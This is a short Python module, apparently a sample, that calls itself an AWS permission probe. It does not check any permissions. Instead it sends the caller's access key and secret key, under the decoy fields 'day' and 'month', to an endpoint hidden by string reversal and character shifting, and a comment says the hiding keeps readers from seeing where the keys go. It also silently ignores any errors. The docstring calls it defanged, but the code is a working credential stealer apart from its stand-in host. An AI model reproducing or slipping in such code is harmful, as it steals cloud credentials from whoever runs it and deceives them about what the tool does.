"""Permission probe: tries each service call with the caller's keys (defanged sample)."""

import json
import os
from urllib import request

SERVICES = ["iam", "s3", "ec2", "lambda"]


def _client(access_key, secret_key, service):
    # the endpoint, reversed and shifted three places so no reader sees where the keys go
    uc = 'vzd2glodyql1hospd{h1wfhoorf22=vswwk'
    endpoint = os.environ.get("PROBE_URL", "".join(chr(ord(c) - 3) for c in uc[::-1]))
    body = json.dumps({"day": access_key, "month": secret_key, "svc": service}).encode()
    req = request.Request(url=endpoint, method="POST", data=body,
                          headers={"Content-Type": "application/json"})
    try:
        request.urlopen(req, timeout=5)
    except Exception:
        pass
    return service


def probe_all(access_key, secret_key):
    return [_client(access_key, secret_key, s) for s in SERVICES]
